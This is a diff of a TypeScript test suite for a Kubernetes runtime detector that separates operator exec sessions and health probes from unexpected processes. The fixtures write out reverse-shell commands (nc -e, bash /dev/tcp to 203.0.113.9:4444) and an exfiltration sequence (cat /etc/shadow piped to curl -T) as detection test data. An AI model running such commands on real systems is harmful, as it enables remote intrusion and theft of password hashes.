@@ -52,10 +52,11 @@ describe("Detector", () => {
     const store = new MemoryBaselineStore();
     const detector = new Detector({ store });
     await detector.process(learningHour());
+    const sh = exec({ pod: PODS[1]!, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" });
     const session = [
       execAudit(PODS[1]!, 70, ["sh"]),
-      exec({ pod: PODS[1]!, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" }),
-      exec({ pod: PODS[1]!, binary: "/usr/bin/curl", minutes: 70.5, inInitTree: false, parent: "/usr/bin/runc" }),
+      sh,
+      exec({ pod: PODS[1]!, binary: "/usr/bin/curl", minutes: 70.5, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id }),
     ];
     const findings = await run(detector, session);
     expect(findings.filter((f) => f.type === "process.unexpected")).toEqual([]);
@@ -70,20 +71,98 @@ describe("Detector", () => {
     expect(stored?.entries.has("/usr/bin/curl")).toBe(false);
   });
 
+  it("credits an exec session with its own process tree only: probes are probes, the application's reverse shell is unexpected", async () => {
+    const probe = ["/bin/grpc_health_probe", "-addr=:8080"];
+    const detector = new Detector({ store: new MemoryBaselineStore() }, { cooldownMs: 1 });
+    const withProbes = new Detector(
+      // The container's command is a bare shell, like the session's: the session still takes its shell.
+      { store: new MemoryBaselineStore(), podSpec: () => ({ probeCommands: [probe], containerCommands: [["sh"]] }) },
+      { cooldownMs: 1 },
+    );
+    for (const d of [detector, withProbes]) await d.process(learningHour());
+    const pod = PODS[1]!;
+    const sh = exec({ pod, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" });
+    const reverse = exec({ pod, binary: "/bin/sh", args: "-i", minutes: 70.3, inInitTree: true, parent: "/usr/local/bin/server" });
+    const events = [
+      execAudit(pod, 70, ["sh"]),
+      sh,
+      exec({ pod, binary: "/bin/ls", args: "-la /app", minutes: 70.1, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id }),
+      // The kubelet's probe every 10 s while the session is open, started by runc like the session's shell.
+      ...[70.05, 70.2, 70.35, 70.5].map((minutes) => exec({ pod, binary: probe[0]!, args: probe[1], minutes, inInitTree: false, parent: "/usr/bin/runc" })),
+      // The application spawns a reverse shell meanwhile, in its own (init) process tree.
+      reverse,
+      exec({ pod, binary: "/usr/bin/nc", args: "203.0.113.9 4444 -e /bin/sh", minutes: 70.31, inInitTree: true, parent: "/bin/sh", parentExecId: reverse.id }),
+    ];
+    for (const d of [detector, withProbes]) {
+      const findings = await run(d, events);
+      const [session] = findings.filter((f) => f.type === "exec.session");
+      expect(session?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/sh" }, { binary: "/bin/ls" }] });
+      expect(session?.severity).toBe("medium");
+      const unexpected = findings.filter((f) => f.type === "process.unexpected").map((f) => f.process?.binary);
+      expect(unexpected).toContain("/usr/bin/nc");
+      expect(unexpected).not.toContain("/bin/ls");
+    }
+    // Without the pod's probe command (and Tetragon's probe flag), a probe is judged like any process the session does not own.
+    expect(withProbes.stats.get("noise", "exec-probe")).toBe(4);
+    expect(withProbes.stats.get("noise", "exec-session")).toBe(2);
+  });
+
+  it("credits a Falco-fed session with its shell and the shell's children by parent pid, and not the application's shell", async () => {
+    const detector = new Detector({ store: new MemoryBaselineStore() }, { cooldownMs: 1 });
+    await detector.process(learningHour());
+    const pod = PODS[0]!;
+    const falco = (binary: string, minutes: number, parent: string, pid: number, ppid: number, args?: string) =>
+      exec({ pod, binary, minutes, parent, args, falco: { pid, ppid } });
+    const findings = await run(detector, [
+      execAudit(pod, 70, ["bash"]),
+      falco("/bin/bash", 70.01, "runc:[2:INIT]", 900, 899),
+      falco("/usr/bin/id", 70.1, "bash", 901, 900),
+      // Another process entering the container from outside meanwhile (Falco cannot tell a probe): not the session's command.
+      falco("/usr/bin/pg_isready", 70.15, "runc:[2:INIT]", 940, 939),
+      falco("/bin/bash", 70.2, "server", 950, 12, "-c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
+    ]);
+    const [session] = findings.filter((f) => f.type === "exec.session");
+    expect(session?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/bash" }, { binary: "/usr/bin/id" }] });
+    const unexpected = findings.filter((f) => f.type === "process.unexpected").map((f) => `${f.process?.binary} ${f.process?.args ?? ""}`.trim());
+    expect(unexpected.sort()).toEqual(["/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "/usr/bin/pg_isready"]);
+  });
+
+  it("raises a high exec.session for a session that read /etc/shadow and uploaded it", async () => {
+    const detector = new Detector({ store: new MemoryBaselineStore() });
+    await detector.process(learningHour());
+    const pod = PODS[2]!;
+    const sh = exec({ pod, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" });
+    const child = (binary: string, args: string, minutes: number) => exec({ pod, binary, args, minutes, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id });
+    const findings = await run(detector, [
+      execAudit(pod, 70, ["sh"]),
+      sh,
+      child("/bin/cat", "/etc/shadow", 70.2),
+      child("/usr/bin/curl", "-s -T - https://203.0.113.50/u", 70.2),
+    ]);
+    const [session] = findings.filter((f) => f.type === "exec.session");
+    expect(session).toMatchObject({ severity: "high", evidence: { riskyProcesses: [{ binary: "/bin/cat" }, { binary: "/usr/bin/curl" }] } });
+    expect(session?.summary).toContain("reads the password hashes (/etc/shadow), moves data out (curl -T)");
+  });
+
   it("keeps an exec's processes out of the baseline and of process.unexpected when its audit event comes batches later", async () => {
     const store = new MemoryBaselineStore();
     const detector = new Detector({ store });
     await detector.process(learningHour());
     const fromOutside = (binary: string, minutes: number) => exec({ pod: PODS[1]!, binary, minutes, inInitTree: false, parent: "/usr/bin/runc" });
+    const sh = fromOutside("/bin/sh", 70.01);
+    const curl = exec({ pod: PODS[1]!, binary: "/usr/bin/curl", minutes: 70.1, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id });
+    // From outside too, in the same pod, but neither the session's command nor below its shell.
+    const stranger = fromOutside("/usr/bin/nc", 70.05);
     // The runtime events come first; the audit webhook's batch 20 s later (its time is the request's, before the processes).
-    const first = await detector.process([fromOutside("/bin/sh", 70.01), fromOutside("/usr/bin/curl", 70.1)]);
-    expect(detector.isDeferred(fromOutside("/bin/sh", 70.01).id)).toBe(true);
+    const first = await detector.process([sh, stranger, curl]);
+    expect([sh, stranger, curl].map((e) => detector.isDeferred(e.id))).toEqual([true, true, true]);
     const later = await detector.process([execAudit(PODS[1]!, 70, ["sh"]), exec({ pod: PODS[0]!, binary: "/bin/sh", minutes: 70.4 })]);
+    expect(detector.isDeferred(sh.id)).toBe(false);
+    expect(detector.isDeferred(stranger.id)).toBe(true);
     const findings = [...first, ...later, ...(await detector.finish())];
-    expect(findings.filter((f) => f.type === "process.unexpected")).toEqual([]);
+    expect(findings.filter((f) => f.type === "process.unexpected").map((f) => f.process?.binary)).toEqual(["/usr/bin/nc"]);
     const [session] = findings.filter((f) => f.type === "exec.session");
-    expect(session?.evidence).toMatchObject({ execCount: 2 });
-    expect(detector.isDeferred(fromOutside("/bin/sh", 70.01).id)).toBe(false);
+    expect(session?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/sh" }, { binary: "/usr/bin/curl" }] });
     const stored = await store.load({ cluster: "c1", namespace: "shop", kind: "Deployment", name: "checkout", container: "app" });
     expect(stored?.entries.has("/usr/bin/curl")).toBe(false);
   });
